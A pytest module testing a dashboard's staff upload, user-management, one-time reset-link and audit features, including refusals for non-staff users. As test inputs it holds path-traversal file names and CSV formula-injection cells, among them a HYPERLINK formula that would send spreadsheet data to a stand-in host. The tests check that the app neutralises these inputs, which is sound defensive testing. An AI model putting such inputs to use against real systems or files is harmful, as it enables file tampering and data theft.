"""Staff tools in the browser (issue 22): a staff member uploads a file and sees the report `scn ingest --json`
gives for it in a fresh home (re-uploading it adds nothing), odd file names break nothing, a user added in the
browser sets their password through a one-time link and signs in, a link works once and ends the old sessions,
officials get 403 on every staff page and post, and the audit log (page and `scn audit --json`) shows it all.

One home and one server for the module (the tests change its users and lake), headless Chromium for the pages."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as ec
from selenium.webdriver.support.ui import Select, WebDriverWait

from scn import lake
from scn.cli import main
from scn.settings import override
from tests.support.browser import page_wait, sign_in
from tests.support.corpus import ok_rows, posts
from tests.support.dash_client import USERS, find_props, form_token, home_with_users, login, route
from tests.support.servers import running_dashboards

BAD_ROWS = ("90,not a date,post ninety,en,51.5,-0.12,,user90,x,", "91,2025-03-01T10:00:00+00:00,post,en,95.0,"
            "-0.12,,user91,x,")
NEW_PASSWORD = "a brand new pass"


@pytest.fixture(scope="module")
def staff_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home of its own (these tests add users and rows): the synthetic snapshot and sam, olive, omar."""
    return home_with_users(tmp_path_factory.mktemp("scn-staff"))


@pytest.fixture(scope="module")
def staff_server(staff_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The served app (as the shared ``server`` fixture) over ``staff_home``."""
    with running_dashboards(staff_home, tmp_path_factory.mktemp("serve-staff") / "dashboards.log") as srv:
        yield srv.url


@pytest.fixture()
def staff_client(staff_home: Path):
    """The app over ``staff_home`` in this process: ``staff_client(name)`` is a Flask test client signed in as
    that user (``staff_client()``: anonymous), with the CSRF token of its session as ``.token``."""
    from dashboards.app import create_app

    app = create_app(staff_home)

    def client(username: str | None = None):
        c = app.server.test_client()
        c.token = form_token(c.post("/_dash-update-component", json=route("/login")).get_json())
        if username:
            r = c.post("/login", data={"username": username, "password": USERS[username][2], "next": "/",
                                       "csrf_token": c.token})
            assert r.status_code == 302 and "error" not in r.headers["Location"]
            c.token = form_token(c.post("/_dash-update-component", json=route("/staff/users")).get_json()) \
                if USERS[username][0] == "staff" else \
                form_token(c.post("/_dash-update-component", json=route("/alerts")).get_json())
        return c

    return client


def _wait(browser: webdriver.Chrome) -> WebDriverWait:
    return page_wait(browser, 40)


def _upload(browser: webdriver.Chrome, server: str, path: Path) -> dict[str, int]:
    browser.get(f"{server}/staff/upload")
    wait = _wait(browser)
    Select(wait.until(ec.presence_of_element_located((By.ID, "upload-kind")))).select_by_value("social")
    Select(browser.find_element(By.ID, "upload-city")).select_by_value("london")
    wait.until(ec.presence_of_element_located((By.ID, "upload-file"))).send_keys(str(path))
    browser.find_element(By.ID, "upload-submit").click()
    wait.until(ec.presence_of_element_located((By.ID, "report-0-accepted")))
    return {k: int(browser.find_element(By.ID, f"report-0-{k}").text.replace(",", ""))
            for k in ("rows_read", "accepted", "quarantined", "duplicates")}


def _posts_in(home: Path) -> int:
    with override(home=home):
        return lake.row_count("posts")


@pytest.mark.browser
def test_upload_reports_what_scn_ingest_json_says(staff_server: str, staff_home: Path, browser: webdriver.Chrome,
                                                  tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    path = tmp_path / "partner posts é.csv"  # a space and a non-ASCII letter in the name
    path.write_bytes(posts(*ok_rows(6), *BAD_ROWS))
    with override(home=tmp_path / "fresh-home"):  # the CLI's own entry point, in a home without any data
        assert main(["ingest", "social", str(path), "--city", "london", "--json"]) == 0
    cli = json.loads(capsys.readouterr().out)
    assert (cli["accepted"], cli["quarantined"], cli["duplicates"]) == (6, 2, 0)
    before = _posts_in(staff_home)  # the module's other tests add posts too, in an order of pytest-xdist's choosing
    try:
        sign_in(browser, staff_server, "sam", "/staff/upload")
        shown = _upload(browser, staff_server, path)
        assert shown == {k: cli[k] for k in ("rows_read", "accepted", "quarantined", "duplicates")}
        assert browser.find_element(By.ID, "report-0-file").text.startswith("File partner_posts_é.csv")
        reasons = browser.find_element(By.ID, "report-0-reasons").text
        for err in cli["errors"]:
            assert f"Row {err['row']}, field {err['field']}: {err['reason']}" in reasons
        browser.find_element(By.ID, "report-0-quarantine").click()  # the file's quarantined rows
        table = _wait(browser).until(ec.presence_of_element_located((By.ID, "quarantine-rows")))
        cells = [[c.text for c in r.find_elements(By.TAG_NAME, "td")] for r in table.find_elements(By.TAG_NAME, "tr")]
        assert [c[1:] for c in cells if c] == [[str(e["row"]), e["field"], e["reason"]] for e in cli["errors"]]
        assert "user90" not in browser.find_element(By.ID, "page").text  # no author handle, no row contents
        assert _posts_in(staff_home) == before + 6
        again = _upload(browser, staff_server, path)  # the same file again: duplicates, nothing added
        assert again == {"rows_read": 8, "accepted": 0, "quarantined": 2, "duplicates": 6}
        assert _posts_in(staff_home) == before + 6
    finally:
        browser.delete_all_cookies()


def _csv_callback(sha256: str) -> dict:
    """The quarantine page's "Download as CSV" callback for the file with that hash."""
    return {"output": "quarantine-csv.data", "outputs": {"id": "quarantine-csv", "property": "data"},
            "inputs": [{"id": "quarantine-csv-button", "property": "n_clicks", "value": 1}],
            "state": [{"id": "quarantine-file", "property": "data", "value": sha256}],
            "changedPropIds": ["quarantine-csv-button.n_clicks"]}


def test_odd_file_names_break_nothing(staff_client, staff_home: Path) -> None:
    sam = staff_client("sam")
    names = ["../../../etc/passwd x.csv", "..\\..\\boot.ini", "dönnées نشر ü.csv", "x" * 400 + ".csv", "..",
             ".hidden.csv", "<b>x</b> q.csv"]
    files = [(io.BytesIO(posts(*ok_rows(2, start=100 + 10 * i))), name) for i, name in enumerate(names)]
    r = sam.post("/staff/upload", data={"csrf_token": sam.token, "kind": "social", "city": "london", "file": files},
                 content_type="multipart/form-data")
    assert r.status_code == 303, r.text[:500]
    report = sam.post("/_dash-update-component", json=route("/staff/upload", "?" + r.headers["Location"].split("?")[1]))
    assert report.status_code == 200
    from dashboards.components.staff import load_report, safe_name

    with override(home=staff_home):
        shown = load_report(r.headers["Location"].rsplit("=", 1)[1])
    assert [(f.get("accepted"), f.get("error")) for f in shown] == [(2, None)] * len(names)
    saved = [f["name"] for f in shown]
    assert saved[:3] == ["passwd_x.csv", "boot.ini", "dönnées_نشر_ü.csv"]
    assert len(saved[3]) == 120 and saved[3].endswith(".csv") and saved[4:] == ["upload", "hidden.csv", "b_q.csv"]
    assert all("/" not in n and "\\" not in n for n in saved)
    assert safe_name("a\x00b\n.csv") == "a_b_.csv" and safe_name(None) == "upload"  # not sendable by the client
    assert not list((staff_home / "hub" / "uploads").glob("incoming-*"))  # staged copies are gone
    assert not (staff_home.parent / "etc").exists()
    from scn.hub.audit import entries

    with override(home=staff_home):
        logged = entries(len(names), action="ingest.upload")
    assert sorted(logged["target"]) == sorted(saved) and set(logged["actor"]) == {"sam"}
    assert all(json.loads(d)["accepted"] == 2 for d in logged["detail"])
    csv = sam.post("/_dash-update-component", json=_csv_callback(shown[0]["sha256"]))
    assert csv.status_code == 200 and "file,row,field,reason" in csv.text
    assert staff_client("omar").post("/_dash-update-component", json=_csv_callback(shown[0]["sha256"])) \
        .status_code == 403


def test_officials_and_strangers_are_refused(staff_client, staff_home: Path) -> None:
    omar = staff_client("omar")  # an official, with a valid CSRF token of his own session
    for path in ("/staff/upload", "/staff/users", "/staff/audit", "/staff/quarantine"):
        assert omar.get(path).status_code == 403, path
        assert omar.post("/_dash-update-component", json=route(path)).status_code == 403, path
        assert staff_client().get(path).status_code == 302, path  # signed out: to the log-in page
    before = _posts_in(staff_home)
    r = omar.post("/staff/upload", data={"csrf_token": omar.token, "kind": "social", "city": "saida",
                                         "file": (io.BytesIO(posts(*ok_rows(2, start=500))), "p.csv")},
                  content_type="multipart/form-data")
    assert r.status_code == 403 and _posts_in(staff_home) == before
    for form in ({"action": "add", "username": "mallory", "role": "staff"}, {"action": "remove", "username": "sam"},
                 {"action": "reset_link", "username": "sam"}, {"action": "change", "username": "omar",
                                                              "role": "staff"}):
        assert omar.post("/staff/users", data={**form, "csrf_token": omar.token}).status_code == 403, form
    from scn.access.users import get_user

    with override(home=staff_home):
        assert get_user("mallory") is None and get_user("omar").role == "official" and get_user("sam") is not None
    sam = staff_client("sam")
    assert sam.post("/staff/users", data={"action": "add", "username": "x1", "role": "staff"}).status_code == 400
    r = sam.post("/staff/users", data={"action": "remove", "username": "sam", "csrf_token": sam.token})
    assert r.status_code == 303 and "error=self" in r.headers["Location"]
    r = sam.post("/staff/users", data={"action": "change", "username": "sam", "role": "official", "city": "london",
                                       "csrf_token": sam.token})
    assert "error=last_staff" in r.headers["Location"]
    with override(home=staff_home, upload_max_mb=1):
        r = sam.post("/staff/upload", data={"csrf_token": sam.token, "kind": "social", "city": "london",
                                            "file": (io.BytesIO(b"x" * (2 << 20)), "big.csv")},
                     content_type="multipart/form-data")
    assert r.status_code == 413 and "larger than 1 MB" in r.text
    with override(home=staff_home, login_limit_client="2 per 15 minutes"):  # /reset/<token> is throttled
        anon = staff_client()
        answers = [anon.get("/reset/not-a-valid-token-0123456789").status_code for _ in range(3)]
    assert answers == [410, 410, 429]


def _link_for(s: requests.Session, server: str, username: str) -> str:
    """Staff (session ``s``) makes a one-time link for ``username`` and reads it off the users page."""
    token = form_token(s.post(f"{server}/_dash-update-component", json=route("/staff/users"), timeout=10).json())
    r = s.post(f"{server}/staff/users", data={"action": "reset_link", "username": username, "csrf_token": token},
               allow_redirects=False, timeout=10)
    assert r.status_code == 303 and "done=reset_link" in r.headers["Location"]
    page = s.post(f"{server}/_dash-update-component", json=route("/staff/users", "?done=reset_link"), timeout=10)
    return str(find_props(page.json(), "staff-link")["children"])


def test_reset_link_works_once_and_ends_old_sessions(staff_server: str) -> None:
    old = login(staff_server, "olive")
    assert old.post(f"{staff_server}/_dash-update-component", json=route("/alerts"), timeout=10).status_code == 200
    sam = login(staff_server, "sam")
    first = _link_for(sam, staff_server, "olive")
    link = _link_for(sam, staff_server, "olive")  # a newer link replaces the first
    assert re.fullmatch(rf"{staff_server}/reset/[A-Za-z0-9_-]{{40,}}", link) and link != first
    anon = requests.Session()
    assert anon.get(first, timeout=10).status_code == 410
    assert anon.get(link, timeout=10).status_code == 200
    token = form_token(anon.post(f"{staff_server}/_dash-update-component",
                                 json=route(link.removeprefix(staff_server)), timeout=10).json())
    r = anon.post(link, data={"password": "short", "confirm": "short", "csrf_token": token}, allow_redirects=False,
                  timeout=10)
    assert r.status_code == 303 and r.headers["Location"].endswith("error=password_short")
    r = anon.post(link, data={"password": NEW_PASSWORD, "confirm": NEW_PASSWORD, "csrf_token": token},
                  allow_redirects=False, timeout=10)
    assert r.status_code == 303 and r.headers["Location"] == "/login"
    assert old.post(f"{staff_server}/_dash-update-component", json=route("/alerts"), timeout=10).status_code == 401
    assert anon.get(link, timeout=10).status_code == 410  # used: refused
    r = anon.post(link, data={"password": "another pass 1", "confirm": "another pass 1", "csrf_token": token},
                  allow_redirects=False, timeout=10)
    assert r.status_code == 303 and r.headers["Location"] == link.removeprefix(staff_server)
    s = requests.Session()
    token = form_token(s.post(f"{staff_server}/_dash-update-component", json=route("/login"), timeout=10).json())
    r = s.post(f"{staff_server}/login", data={"username": "olive", "password": NEW_PASSWORD, "next": "/alerts",
                                              "csrf_token": token}, allow_redirects=False, timeout=10)
    assert r.status_code == 302 and r.headers["Location"] == "/alerts"


@pytest.mark.browser
def test_user_added_in_the_browser_sets_a_password_and_signs_in(staff_server: str, staff_home: Path,
                                                                browser: webdriver.Chrome,
                                                                capsys: pytest.CaptureFixture) -> None:
    wait = _wait(browser)
    try:
        sign_in(browser, staff_server, "sam", "/staff/users")
        wait.until(ec.presence_of_element_located((By.ID, "add-username"))).send_keys("nadia")
        Select(browser.find_element(By.ID, "add-role")).select_by_value("official")
        Select(browser.find_element(By.ID, "add-city")).select_by_value("london")
        browser.find_element(By.ID, "add-submit").click()
        link = wait.until(ec.presence_of_element_located((By.ID, "staff-link"))).text
        assert "User nadia added." in browser.find_element(By.ID, "users-done").text
        assert browser.find_element(By.ID, "status-nadia").text == "not set yet"
        browser.delete_all_cookies()
        browser.get(link)
        wait.until(ec.presence_of_element_located((By.ID, "reset-password"))).send_keys(NEW_PASSWORD)
        assert browser.find_element(By.ID, "reset-user").text == "New password for nadia."
        browser.find_element(By.ID, "reset-confirm").send_keys(NEW_PASSWORD)
        browser.find_element(By.ID, "reset-submit").click()
        wait.until(lambda d: d.current_url.endswith("/login"))
        sign_in(browser, staff_server, "nadia", "/glossary", NEW_PASSWORD)
        wait.until(lambda d: "nadia" in d.find_element(By.ID, "nav").text)
        assert not browser.find_elements(By.ID, "nav-users")  # an official: no staff links
        browser.get(link)  # the link is spent
        assert "cannot be used" in wait.until(ec.presence_of_element_located((By.ID, "reset-refused"))).text
        sign_in(browser, staff_server, "sam", "/staff/audit")  # the audit log shows it all
        table = wait.until(ec.presence_of_element_located((By.ID, "audit-table"))).text
        for words in ("sam user added nadia London", "nadia password set through a link nadia London",
                      "sam one-time password link made nadia London"):
            assert words in table, words
        Select(browser.find_element(By.ID, "audit-action")).select_by_value("user.add")
        browser.find_element(By.ID, "audit-filter").click()
        wait.until(lambda d: "action=user.add" in d.current_url)
        rows = wait.until(ec.presence_of_all_elements_located((By.CSS_SELECTOR, "#audit-table .audit-row")))
        assert [r.find_elements(By.TAG_NAME, "td")[3].text for r in rows] == ["nadia"]
    finally:
        browser.delete_all_cookies()
    with override(home=staff_home):
        assert main(["audit", "--json", "--target", "nadia"]) == 0
    cli = json.loads(capsys.readouterr().out)
    assert [e["action"] for e in cli][::-1][:3] == ["user.add", "user.reset_link", "user.password_set"]
    assert all("password" not in json.loads(e["detail"]) for e in cli)
    text = b"".join(p.read_bytes() for p in (staff_home / "hub").glob("audit.sqlite*"))
    assert link.rsplit("/", 1)[1].encode() not in text and NEW_PASSWORD.encode() not in text


def test_the_quarantine_csv_neutralises_what_a_spreadsheet_would_execute(staff_client, staff_home: Path) -> None:
    """A partner's file name, field names and values are theirs: a file named ``-1+2.csv`` (kept as ``-1_2.csv``)
    whose bad rows hold ``=HYPERLINK(...)`` and ``@SUM(...)`` values. Every cell of the download that would start a
    formula in Excel or LibreOffice is prefixed with ``'``; the page shows the same rows."""
    sam = staff_client("sam")
    bad = ['92,=HYPERLINK("http://x.example/?q="&A1),post,en,51.5,-0.12,,user92,x,',
           "93,2025-03-01T10:00:00+00:00,post,en,@SUM(1+1),-0.12,,user93,x,"]
    r = sam.post("/staff/upload", data={"csrf_token": sam.token, "kind": "social", "city": "london",
                                         "file": (io.BytesIO(posts(*ok_rows(1, start=700), *bad)), "-1+2.csv")},
                 content_type="multipart/form-data")
    assert r.status_code == 303, r.text[:500]
    from dashboards.components.staff import load_report, quarantine_rows

    with override(home=staff_home):
        (shown,) = load_report(r.headers["Location"].rsplit("=", 1)[1])
        rows = quarantine_rows(shown["sha256"])
    assert shown["name"] == "-1_2.csv" and shown["quarantined"] == 2 and len(rows) == 2
    body = json.loads(sam.post("/_dash-update-component", json=_csv_callback(shown["sha256"])).text)
    text = body["response"]["quarantine-csv"]["data"]["content"]
    import csv

    cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
    assert cells[:4] == ["file", "row", "field", "reason"] and len(cells) == 12
    assert not [c for c in cells if re.match(r"[=+\-@\t\r]", c)], cells
    assert cells.count("'-1_2.csv") == 2  # the same rows, neutralised, not dropped


def test_the_quarantine_page_without_a_file_lists_the_files_with_rows_set_aside(staff_client,
                                                                                  staff_home: Path) -> None:
    """``/staff/quarantine`` with no file (or a malformed one) lists each file whose last ingestion set rows aside,
    once per content, linking to its rows with the count; a clean file is not listed. It said "No row of this
    file was set aside", a dead end."""
    sam = staff_client("sam")
    sent = {}
    for name, rows in (("two-bad.csv", (*ok_rows(2, start=800), *BAD_ROWS)), ("clean.csv", ok_rows(2, start=810))):
        r = sam.post("/staff/upload", data={"csrf_token": sam.token, "kind": "social", "city": "london",
                                             "file": (io.BytesIO(posts(*rows)), name)},
                     content_type="multipart/form-data")
        assert r.status_code == 303, r.text[:500]
        from dashboards.components.staff import load_report

        with override(home=staff_home):
            (sent[name],) = load_report(r.headers["Location"].rsplit("=", 1)[1])
    assert sent["two-bad.csv"]["quarantined"] == 2 and sent["clean.csv"]["quarantined"] == 0
    for search in ("", "?file=not-a-hash"):
        page = sam.post("/_dash-update-component", json=route("/staff/quarantine", search)).get_json()
        table = json.dumps(find_props(page, "quarantine-files"))
        assert f"/staff/quarantine?file={sent['two-bad.csv']['sha256']}" in table, search
        assert table.count(sent["two-bad.csv"]["sha256"]) == 1 and "two-bad.csv" in table
        assert sent["clean.csv"]["sha256"] not in table and "clean.csv" not in table
        assert "quarantine-none" not in json.dumps(page)  # never "no row of this file" without a file
    page = sam.post("/_dash-update-component",
                    json=route("/staff/quarantine", f"?file={sent['two-bad.csv']['sha256']}")).get_json()
    assert find_props(page, "quarantine-rows") is not None
    assert staff_client("omar").post("/_dash-update-component", json=route("/staff/quarantine")).status_code == 403
